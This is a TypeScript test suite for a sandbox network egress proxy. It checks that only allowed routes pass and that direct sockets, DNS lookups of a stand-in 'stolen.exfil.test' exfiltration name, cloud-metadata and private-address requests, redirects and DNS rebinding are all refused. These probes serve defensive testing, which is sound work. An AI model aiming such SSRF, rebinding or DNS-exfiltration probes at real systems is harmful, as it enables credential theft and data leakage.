import { execFile, execFileSync } from "node:child_process";
import { readdirSync, writeFileSync } from "node:fs";
import { createServer } from "node:http";
import { join } from "node:path";
import { describe, expect, it } from "vitest";
import type { TestCli } from "../kit/cli.ts";
import { inNetwork } from "../kit/docker-network.ts";
import { placeOutside, type SealedTestEngine } from "../kit/test-engine.ts";
import { startUpstream } from "../kit/upstream.ts";
import { addresses } from "../kit/world-addresses.ts";

/** Asks with curl: each line of output is a name and the rule that refused, or `passed`, or `failed`. */
const ask = `ask() {
  name=$1; shift
  said=$(curl -sS -o /dev/null -D - -w 'status %{http_code}' --max-time 20 "$@" 2>/dev/null | tr -d '\\r')
  rule=$(printf '%s' "$said" | sed -n 's/^x-caisson-rule: //p' | tail -n 1)
  [ -n "$rule" ] || case $said in *'status 200') rule=passed ;; *) rule=failed ;; esac
  echo "$name: $rule"
}
`;

/** Packets without any client's or resolver's help. A refused connection counts as reached: somebody answered. */
const reachProgram = `
import socket, sys
# Long where an answer comes: the name server outside may have no time for one at once.
patience = float(sys.argv[1]) if len(sys.argv) > 1 else 2
ask = b"\\x12\\x34\\x01\\0\\0\\x01\\0\\0\\0\\0\\0\\0\\x06stolen\\x05exfil\\x04test\\0\\0\\x01\\0\\x01"
def open_socket(family, kind, address, port, protocol=0):
    s = socket.socket(family, kind, protocol)
    s.settimeout(patience)
    s.connect((address, port))
    return s
def datagram(family, address, port):
    s = open_socket(family, socket.SOCK_DGRAM, address, port)
    s.send(ask)
    s.recv(512)
def ping(family, protocol, packet, address):
    try:
        s = open_socket(family, socket.SOCK_DGRAM, address, 0, protocol)
    except PermissionError:
        s = open_socket(family, socket.SOCK_RAW, address, 0, protocol)
    s.send(packet)
    s.recv(512)
def attempt(name, act, *given):
    try:
        act(*given)
        print(name, "reached", flush=True)
    except ConnectionRefusedError:
        print(name, "reached", flush=True)
    except OSError as error:
        print(name, "nothing", flush=True)
for name, address in (("tcp", "${addresses.site}"), ("tcp-host", "${addresses.host}"), ("dns-tcp", "${addresses.resolver}")):
    attempt(name, open_socket, socket.AF_INET, socket.SOCK_STREAM, address, 53 if name == "dns-tcp" else 443)
attempt("tcp-ipv6", open_socket, socket.AF_INET6, socket.SOCK_STREAM, "${addresses.site6}", 443)
attempt("udp", datagram, socket.AF_INET, "${addresses.site}", 9)
attempt("udp-ipv6", datagram, socket.AF_INET6, "${addresses.site6}", 9)
attempt("dns", datagram, socket.AF_INET, "${addresses.resolver}", 53)
attempt("icmp", ping, socket.AF_INET, socket.IPPROTO_ICMP, b"\\x08\\0\\xf7\\xfd\\0\\x01\\0\\x01", "${addresses.site}")
attempt("icmp-ipv6", ping, socket.AF_INET6, socket.IPPROTO_ICMPV6, b"\\x80\\0\\0\\0\\0\\x01\\0\\x01", "${addresses.site6}")
`;

/** What the outside world's kernel has taken in, of all that a program can send. */
function packetsAt(outside: string): Readonly<Record<string, number>> {
  const text = execFileSync(...inNetwork(outside, ["cat", "/proc/self/net/snmp", "/proc/self/net/snmp6"]), {
    encoding: "utf8",
  });
  const rows = text.split("\n").map((line) => line.trim().split(/\s+/));
  const column = (table: string, name: string) => {
    const [names = [], values = []] = rows.filter(([head]) => head === `${table}:`);
    return Number(values[names.indexOf(name)]);
  };
  const six = (name: string) => Number(rows.find(([head]) => head === name)?.[1]);
  return {
    tcp: column("Tcp", "InSegs"),
    udp: column("Udp", "InDatagrams") + column("Udp", "NoPorts"),
    icmp: column("Icmp", "InEchos"),
    udp6: six("Udp6InDatagrams") + six("Udp6NoPorts"),
    icmp6: six("Icmp6InEchos"),
  };
}

function writeManifest(cli: TestCli, text: string): readonly string[] {
  const file = join(cli.home, "mine.yaml");
  writeFileSync(file, text);
  return ["--manifest", file];
}

async function refusedRules(cli: TestCli): Promise<readonly string[]> {
  const [slug = ""] = readdirSync(join(cli.stateRoot, "sandboxes"));
  const events = (await cli.run(["logs", "--events", "--json", slug])).jsonLines<{ event: string; rule: string }>();
  return events.filter(({ event }) => event === "request_refused").map(({ rule }) => rule);
}

/** What gets out of a sandbox, and what does not, on any engine whose network is the tests' own. */
export const describeNetwork = (engine: SealedTestEngine) =>
  describe(`the way out, ${engine.name}`, () => {
    it("must-have 22: an allowed host and path pass; another path, method, host, address, Host or SNI is refused with its rule", async () => {
      await using cli = engine.createCli();
      await using upstream = await startUpstream(
        undefined,
        placeOutside(engine.outside, addresses.site, { port: 443 }),
      );
      writeFileSync(join(cli.home, "ca.pem"), upstream.ca);
      const route = "{ host: good.test, paths: [/v1], methods: [GET], extraCaFile: ca.pem }";
      const flags = writeManifest(cli, `routes:\n  - ${route}\n`);
      // The last one's tunnel and Host are those of the route, and its TLS asks for another.
      const script = `${ask}
        ask allowed https://good.test/v1/x
        ask path https://good.test/v2/x
        ask dots --path-as-is https://good.test/v1/../v2
        ask method -X DELETE https://good.test/v1/x
        ask port https://good.test:8443/v1/x
        ask scheme http://good.test/v1/x
        ask host https://other.test/v1/x
        ask literal https://${addresses.site}/v1/x
        ask number http://3405803786/v1/x
        ask wrong-host -H 'Host: other.test' https://good.test/v1/x
        ask wrong-sni -k -H 'Host: good.test' --connect-to other.test:443:good.test:443 https://other.test/v1/x`;
      const { stdout, stderr } = await cli.run(["run", ...flags, "--", "sh", "-c", script]);
      const rules = {
        path: "no-route-path",
        dots: "malformed",
        method: "no-route-method",
        port: "no-route-port",
        scheme: "no-route-scheme",
        host: "no-route",
        literal: "ip-literal",
        number: "ip-literal",
        "wrong-host": "host-mismatch",
        "wrong-sni": "host-mismatch",
      };
      const said = Object.entries({ allowed: "passed", ...rules }).map(([name, rule]) => `${name}: ${rule}\n`);
      expect(stdout, stderr).toBe(said.join(""));
      expect(upstream.received.map(({ method, url }) => `${method} ${url}`)).toEqual(["GET /v1/x"]);
      expect(await refusedRules(cli)).toEqual(Object.values(rules));
    });

    it("must-have 23: direct TCP, UDP, ICMP, IPv6 and DNS get nowhere, nor does a crafted name", async () => {
      await using cli = engine.createCli();
      const untried = packetsAt(engine.outside);
      const control = execFileSync(...engine.beside(["python3", "-c", reachProgram, "30"]), { encoding: "utf8" });
      const names = ["tcp", "tcp-host", "dns-tcp", "tcp-ipv6", "udp", "udp-ipv6", "dns", "icmp", "icmp-ipv6"];
      // Where nothing keeps it in, all of it arrives, and is seen to.
      expect(control).toBe(names.map((name) => `${name} reached\n`).join(""));
      const before = packetsAt(engine.outside);
      for (const [kind, count] of Object.entries(before)) expect(count, kind).toBeGreaterThan(untried[kind] ?? 0);

      const script = `${ask}
        python3 -c "$0"
        getent hosts stolen.exfil.test || echo lookup nothing
        ask plain http://stolen.exfil.test/
        ask tunnel https://stolen.exfil.test/`;
      const { stdout, stderr } = await cli.run(["run", "--", "sh", "-c", script, reachProgram]);
      const nothing = [...names, "lookup"].map((name) => `${name} nothing\n`).join("");
      expect(stdout, stderr).toBe(`${nothing}plain: no-route\ntunnel: no-route\n`);
      expect(packetsAt(engine.outside)).toEqual(before);
    });

    it("must-have 24: metadata and private addresses stay out of reach: by name, address, redirect and rebinding", async () => {
      await using cli = engine.createCli();
      const arrived: string[] = [];
      const targets: Readonly<Record<string, string>> = {
        "/to-metadata": `http://${addresses.metadata}/latest/meta-data`,
        "/to-private": "http://private.test/",
      };
      await using site = createServer((request, answer) => {
        const location = targets[request.url ?? ""];
        arrived.push(`site ${request.url}`);
        // Each request is a connection, and a resolution, of its own.
        answer.setHeader("connection", "close");
        answer.writeHead(location === undefined ? 200 : 302, location === undefined ? {} : { location }).end();
      });
      await using metadata = createServer((_, answer) => answer.end(String(arrived.push("metadata"))));
      await using inner = createServer((_, answer) => answer.end(String(arrived.push("private"))));
      await placeOutside(engine.outside, addresses.site, { port: 80 }).listen(site);
      await placeOutside(engine.outside, addresses.metadata, { port: 80 }).listen(metadata);
      await placeOutside(engine.outside, addresses.private, { port: 80 }).listen(inner);
      for (const address of [addresses.metadata, addresses.private])
        await new Promise((resolve) => {
          execFile(...engine.beside(["curl", "-sS", `http://${address}/`]), resolve);
        });
      expect(arrived.splice(0)).toEqual(["metadata", "private"]);

      const hosts = ["good.test", "metadata.test", "private.test", "mapped.test", "loopback.test", "'*.rebind.test'"];
      const routes = hosts.map((host) => `  - { host: ${host}, scheme: http }\n`);
      const rebinding = Array.from({ length: 6 }, () => "ask rebinding http://x.rebind.test/");
      const script = `${ask}
        ask by-name http://metadata.test/
        ask by-name http://private.test/
        ask by-name http://loopback.test/
        ask by-address http://${addresses.metadata}/
        ask by-address http://${addresses.private}/
        ask redirected-to-address -L http://good.test/to-metadata
        ask redirected-to-name -L http://good.test/to-private
        ask unasked --noproxy '*' http://${addresses.metadata}/
        ask unasked --noproxy '*' http://${addresses.private}/
        ${rebinding.join("\n")}`;
      const flags = writeManifest(cli, `routes:\n${routes.join("")}`);
      const { stdout, stderr } = await cli.run(["run", ...flags, "--", "sh", "-c", script]);
      const lines = stdout.trim().split("\n");
      expect(
        lines.filter((line) => !line.startsWith("rebinding")),
        stderr,
      ).toEqual([
        "by-name: address",
        "by-name: address",
        "by-name: address",
        "by-address: ip-literal",
        "by-address: ip-literal",
        "redirected-to-address: ip-literal",
        "redirected-to-name: address",
        "unasked: failed",
        "unasked: failed",
      ]);
      // The name leads to the site and to the private address in turn: what is dialled is what was looked at.
      expect(new Set(lines.filter((line) => line.startsWith("rebinding")))).toEqual(
        new Set(["rebinding: passed", "rebinding: address"]),
      );
      expect(arrived.filter((line) => !line.startsWith("site"))).toEqual([]);
      expect(arrived).toContain("site /");
    });
  });
